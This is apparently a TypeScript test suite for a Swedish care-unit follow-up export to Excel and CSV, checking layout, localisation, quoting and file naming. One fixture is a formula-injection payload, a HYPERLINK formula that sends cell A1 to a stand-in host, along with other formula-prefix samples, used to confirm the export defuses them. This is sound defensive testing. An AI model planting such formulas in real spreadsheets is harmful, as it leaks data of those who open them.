import AdmZip from 'adm-zip';
import { ValueType, Workbook, type Worksheet } from 'exceljs';
import { followUpCsv } from '../../../../bot/src/api/presenters/follow-up-csv';
import {
  exportFileName,
  type ExportActivity,
  type ExportSubAssignment,
  type FollowUpExport,
} from '../../../../bot/src/api/presenters/follow-up-export';
import { followUpWorkbook } from '../../../../bot/src/api/presenters/follow-up-workbook';

const INJECTION = '=HYPERLINK("https://example.invalid/?q="&A1;"Klicka")';
const TRICKY = 'Fikat på avd 2; "lugnare" nu\nfortsätter i april';

function buildActivity(overrides: Partial<ExportActivity> = {}): ExportActivity {
  return { name: 'Fasta fikatider', responsible: 'Bengt Karlsson', dueOn: '2027-04-30', done: false, assessments: [], ...overrides };
}

function buildSubAssignment(overrides: Partial<ExportSubAssignment> = {}): ExportSubAssignment {
  return {
    name: 'Lugnare eftermiddagar',
    kind: 'improvement',
    purpose: 'Oro på avdelning 2 efter lunch.',
    goal: 'Färre larm 14–16.',
    measure: 'Antal larm per vecka.',
    responsible: 'Anna Lindqvist',
    startsOn: '2027-02-01',
    endsOn: '2027-06-30',
    origin: 'Förslag 3: Lugnare eftermiddagar',
    status: 'ongoing',
    assessments: [],
    activities: [],
    ...overrides,
  };
}

function buildExport(overrides: Partial<FollowUpExport> = {}): FollowUpExport {
  return {
    unitName: 'Solgårdens vård- och omsorgsboende',
    area: 'sarskilt-boende',
    year: 2027,
    timeZone: 'Europe/Stockholm',
    exportedAt: new Date('2027-06-15T12:30:00Z'),
    assignment: {
      name: 'Kvalitetsråd',
      assessments: [
        { month: '2027-01', status: 'on_track', comment: 'Schemat klart i tid.' },
        { month: '2027-02', status: 'partly', comment: INJECTION },
      ],
    },
    subAssignments: [
      buildSubAssignment({
        name: 'Fallprevention nattetid',
        status: 'completed',
        finalReport: 'Nattrondering med sensorlarm infört.\nFall minskade från 9 till 3 per månad.',
        completedAt: '2027-05-20',
        assessments: [
          { month: '2027-03', status: 'on_track', comment: 'Sensorer beställda.' },
          { month: '2027-05', status: 'done', comment: 'Klart.' },
        ],
        activities: [
          buildActivity({
            name: 'Beställ sensorlarm',
            done: true,
            doneAt: '2027-03-15',
            assessments: [{ month: '2027-03', status: 'done', comment: TRICKY }],
          }),
          buildActivity({
            name: '+Utbilda nattpersonal',
            done: true,
            doneAt: '2027-04-28',
            assessments: [{ month: '2027-04', status: 'off_track', comment: '-5 fall jämfört med förra året' }],
          }),
        ],
      }),
      buildSubAssignment({
        assessments: [
          { month: '2027-04', status: 'partly', comment: 'Kommit igång.' },
          { month: '2026-12', status: 'on_track', comment: 'Förra året: ska inte med.' },
        ],
        activities: [buildActivity(), buildActivity({ name: '@Utvärdera', responsible: undefined, dueOn: undefined })],
      }),
    ],
    ...overrides,
  };
}

/** The workbook as a manager opening it sees it, read back by a real .xlsx reader. */
async function load(buffer: Buffer): Promise<Workbook> {
  const workbook = new Workbook();
  await workbook.xlsx.load(buffer as unknown as Parameters<Workbook['xlsx']['load']>[0]);
  return workbook;
}

function rowNamed(sheet: Worksheet, column: number, name: string): number {
  for (let r = 1; r <= sheet.rowCount; r++) if (sheet.getCell(r, column).value === name) return r;
  throw new Error(`no row ${name}`);
}

/** A small RFC 4180 reader (quoted fields, doubled quotes, newlines inside quotes). */
function parseCsv(text: string, separator = ';'): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === separator) {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field !== '' || row.length > 0) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}

describe('the Stratsys export as an Excel workbook', () => {
  it('shows the hierarchy with coloured month statuses, final report and collapsible activities', async () => {
    const workbook = await load(await followUpWorkbook(buildExport(), 'sv'));
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Uppföljning', 'Kommentarer', 'Deluppdrag']);

    const sheet = workbook.getWorksheet('Uppföljning')!;
    expect(sheet.getCell('A1').value).toBe(
      'Kvalitetsråd 2027 – Solgårdens vård- och omsorgsboende (Särskilt boende). Exporterad 2027-06-15 14:30 (Europe/Stockholm).',
    );
    expect((sheet.getRow(2).values as unknown[]).slice(1)).toEqual([
      'Nivå',
      'Namn',
      'Ansvarig',
      'Start',
      'Slut',
      'Status',
      'Jan',
      'Feb',
      'Mar',
      'Apr',
      'Maj',
      'Jun',
      'Jul',
      'Aug',
      'Sep',
      'Okt',
      'Nov',
      'Dec',
      'Slutrapport',
      'Klarmarkerad',
    ]);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', xSplit: 2, ySplit: 2 });
    expect(sheet.getRow(3).getCell(1).value).toBe('Uppdrag');
    expect(sheet.getRow(3).getCell(8).value).toBe('Delvis enligt plan');

    const sub = rowNamed(sheet, 2, 'Fallprevention nattetid');
    const row = sheet.getRow(sub);
    expect(row.getCell(1).value).toBe('Deluppdrag');
    expect(row.getCell(6).value).toBe('Klar');
    expect(row.getCell(9).value).toBe('Enligt plan'); // March
    expect(row.getCell(9).fill).toMatchObject({ type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFC6EFCE' } });
    expect(row.getCell(10).value).toBeNull(); // April not assessed
    expect(row.getCell(11).value).toBe('Klar'); // May
    expect(row.getCell(19).value).toBe('Nattrondering med sensorlarm infört.\nFall minskade från 9 till 3 per månad.');
    expect(row.getCell(19).alignment).toMatchObject({ wrapText: true });
    expect(row.getCell(4).value).toEqual(new Date('2027-02-01T00:00:00Z'));
    expect(row.getCell(4).numFmt).toBe('yyyy-mm-dd');
    expect(row.getCell(20).value).toEqual(new Date('2027-05-20T00:00:00Z'));

    const activity = sheet.getRow(sub + 1);
    expect(activity.getCell(1).value).toBe('Aktivitet');
    expect(activity.getCell(2).value).toBe('Beställ sensorlarm');
    expect(activity.getCell(2).alignment).toMatchObject({ indent: 2 });
    expect(activity.outlineLevel).toBe(1);
    expect(sheet.properties).toMatchObject({ outlineLevelRow: 1, outlineProperties: { summaryBelow: false } });
    expect(sheet.getRow(sub + 2).getCell(2).value).toBe('+Utbilda nattpersonal');
    expect(activity.getCell(9).value).toBe('Klar');
    expect(sheet.getRow(sub + 2).getCell(10).value).toBe('Ej enligt plan');
    expect(sheet.getRow(sub + 3).getCell(1).value).toBe('Deluppdrag');
    expect(sheet.getRow(sub + 3).getCell(6).value).toBe('Delvis enligt plan');
    expect(sheet.getRow(sub + 3).getCell(7).value).toBeNull(); // December last year is not this year's January
    expect(sheet.getRow(sub + 4).getCell(6).value).toBe('Ej påbörjad');
  });

  it('lists every assessment on "Kommentarer" and every sub-assignment on "Deluppdrag"', async () => {
    const workbook = await load(await followUpWorkbook(buildExport(), 'sv'));
    const comments = workbook.getWorksheet('Kommentarer')!;
    expect((comments.getRow(1).values as unknown[]).slice(1)).toEqual(['Nivå', 'Namn', 'Månad', 'Status', 'Kommentar']);
    expect(comments.rowCount).toBe(1 + 2 + 2 + 2 + 1);
    const row = comments.getRow(rowNamed(comments, 2, 'Fallprevention nattetid › Beställ sensorlarm'));
    expect((row.values as unknown[]).slice(1)).toEqual(['Aktivitet', 'Fallprevention nattetid › Beställ sensorlarm', '2027-03', 'Klar', TRICKY]);
    expect(comments.getRow(2).getCell(3).value).toBe('2027-01');

    const subs = workbook.getWorksheet('Deluppdrag')!;
    expect(subs.rowCount).toBe(3);
    expect((subs.getRow(1).values as unknown[]).slice(1)).toEqual([
      'Namn',
      'Typ',
      'Syfte/problem',
      'Mål',
      'Mätning',
      'Ursprung',
      'Ansvarig',
      'Start',
      'Slut',
      'Status',
      'Aktiviteter klara/totalt',
      'Slutrapport',
      'Klarmarkerad',
    ]);
    expect(subs.getRow(2).getCell(11).value).toBe('2 av 2');
    expect(subs.getRow(2).getCell(12).value).toContain('Nattrondering');
    expect(subs.getRow(3).getCell(11).value).toBe('0 av 2');
    expect(subs.getRow(3).getCell(2).value).toBe('Utvecklingsarbete');
  });

  it('speaks English when asked', async () => {
    const workbook = await load(await followUpWorkbook(buildExport(), 'en'));
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Follow-up', 'Comments', 'Sub-assignments']);
    const sheet = workbook.getWorksheet('Follow-up')!;
    expect(sheet.getCell('A1').value).toBe(
      'Quality council 2027 – Solgårdens vård- och omsorgsboende (Residential care). Exported 2027-06-15 14:30 (Europe/Stockholm).',
    );
    expect(sheet.getRow(2).getCell(11).value).toBe('May');
    const row = sheet.getRow(rowNamed(sheet, 2, 'Fallprevention nattetid'));
    expect([row.getCell(1).value, row.getCell(9).value, row.getCell(6).value]).toEqual(['Sub-assignment', 'On track', 'Done']);
    expect(workbook.getWorksheet('Sub-assignments')!.getRow(2).getCell(11).value).toBe('2 of 2');
  });

  it('keeps text that looks like a formula as plain text', async () => {
    const buffer = await followUpWorkbook(buildExport(), 'sv');
    const comments = (await load(buffer)).getWorksheet('Kommentarer')!;
    const cell = comments.getRow(3).getCell(5);
    expect(cell.value).toBe(INJECTION);
    expect(cell.type).toBe(ValueType.String);
    expect(cell.formula).toBeUndefined();
    const zip = new AdmZip(buffer);
    const sheets = zip
      .getEntries()
      .filter((e) => /^xl\/worksheets\/sheet\d+\.xml$/.test(e.entryName))
      .map((e) => e.getData().toString('utf8'));
    expect(sheets).toHaveLength(3);
    for (const xml of sheets) expect(xml).not.toMatch(/<f[ >]/);
    expect(zip.readAsText('xl/sharedStrings.xml')).toContain('=HYPERLINK(');
  });

  it('drops control characters that XML (and so Excel) refuses', async () => {
    const data = buildExport({
      assignment: { name: 'Kvalitets\u0001råd', assessments: [{ month: '2027-01', status: 'on_track', comment: 'Rad 1\u000B\tRad 2' }] },
    });
    const workbook = await load(await followUpWorkbook(data, 'sv'));
    expect(workbook.getWorksheet('Uppföljning')!.getCell('B3').value).toBe('Kvalitetsråd');
    expect(workbook.getWorksheet('Kommentarer')!.getCell('E2').value).toBe('Rad 1\tRad 2');
  });
});

describe('the Stratsys export as CSV', () => {
  const csv = followUpCsv(buildExport(), 'sv');

  it('is UTF-8 with BOM, semicolon-separated, CRLF, and quotes what needs quoting', () => {
    expect(csv.startsWith('\uFEFFNivå;Namn;Månad;Status;Kommentar;Typ;')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(
      csv
        .replace(/"[^"]*"/g, '')
        .split('\n')
        .every((line, i, all) => i === all.length - 1 || line.endsWith('\r')),
    ).toBe(true);
    expect(csv).toContain('"Fikat på avd 2; ""lugnare"" nu\nfortsätter i april"');
  });

  it('parses back to one row per assessment plus one per sub-assignment, with formulas defused', () => {
    const rows = parseCsv(csv.slice(1));
    expect(rows).toHaveLength(1 + 7 + 2);
    expect(rows.every((r) => r.length === rows[0]!.length || r.length === 5)).toBe(true);
    expect(rows.find((r) => r[4] === TRICKY)).toEqual(['Aktivitet', 'Fallprevention nattetid › Beställ sensorlarm', '2027-03', 'Klar', TRICKY]);
    expect(rows.find((r) => r[2] === '2027-02')?.[4]).toBe(`'${INJECTION}`);
    expect(rows.find((r) => r[2] === '2027-04' && r[0] === 'Aktivitet')?.[1]).toBe('Fallprevention nattetid › +Utbilda nattpersonal'); // not first, so no prefix
    expect(rows.find((r) => r[4] === "'-5 fall jämfört med förra året")).toBeDefined();
    const sub = rows.find((r) => r[1] === 'Fallprevention nattetid' && r[2] === '')!;
    expect(sub.slice(3)).toEqual([
      'Klar',
      '',
      'Utvecklingsarbete',
      'Oro på avdelning 2 efter lunch.',
      'Färre larm 14–16.',
      'Antal larm per vecka.',
      'Förslag 3: Lugnare eftermiddagar',
      'Anna Lindqvist',
      '2027-02-01',
      '2027-06-30',
      '2 av 2',
      'Nattrondering med sensorlarm infört.\nFall minskade från 9 till 3 per månad.',
      '2027-05-20',
    ]);
    expect(rows.find((r) => r[1] === 'Lugnare eftermiddagar › @Utvärdera')).toBeUndefined(); // not assessed, so not listed
  });

  it('prefixes every cell that starts with = + - @ tab or CR', () => {
    const data = buildExport({
      assignment: {
        name: 'Kvalitetsråd',
        assessments: ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', 'ok = fine'].map((comment) => ({
          month: '2027-01',
          status: 'on_track' as const,
          comment,
        })),
      },
      subAssignments: [],
    });
    const comments = parseCsv(followUpCsv(data, 'en').slice(1))
      .slice(1)
      .map((r) => r[4]);
    expect(comments).toEqual(["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "'\r=1", 'ok = fine']);
  });
});

describe('the export file name', () => {
  it('is ASCII with the unit as a slug and the year', () => {
    expect(exportFileName(buildExport(), 'xlsx')).toBe('Kvalitetsrad-solgardens-vard-och-omsorgsboende-2027.xlsx');
    expect(exportFileName({ unitName: 'Hemvården Öst / Åby', year: 2028 }, 'csv')).toBe('Kvalitetsrad-hemvarden-ost-aby-2028.csv');
    expect(exportFileName({ unitName: '???', year: 2028 }, 'csv')).toBe('Kvalitetsrad-2028.csv');
  });
});

describe('a large export', () => {
  it('writes 200 sub-assignments × 10 activities × 12 months', async () => {
    const months = Array.from({ length: 12 }, (_, i) => ({
      month: `2027-${String(i + 1).padStart(2, '0')}`,
      status: 'partly' as const,
      comment: `Läget i månad ${i + 1}: arbetet fortsätter enligt plan med vissa förseningar.`,
    }));
    const data = buildExport({
      assignment: { name: 'Kvalitetsråd', assessments: months },
      subAssignments: Array.from({ length: 200 }, (_, s) =>
        buildSubAssignment({
          name: `Utvecklingsarbete ${s + 1}`,
          assessments: months,
          activities: Array.from({ length: 10 }, (_, a) => buildActivity({ name: `Aktivitet ${a + 1}`, assessments: months })),
        }),
      ),
    });
    const buffer = await followUpWorkbook(data, 'sv');
    const csv = followUpCsv(data, 'sv');
    const workbook = new Workbook();
    await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
    expect(workbook.worksheets[0]!.rowCount).toBeGreaterThanOrEqual(1 + 200 + 2000);
    expect(csv.split('\r\n')).toHaveLength(1 + (1 + 200 + 2000) * 12 + 200 + 1);
  }, 120_000);
});
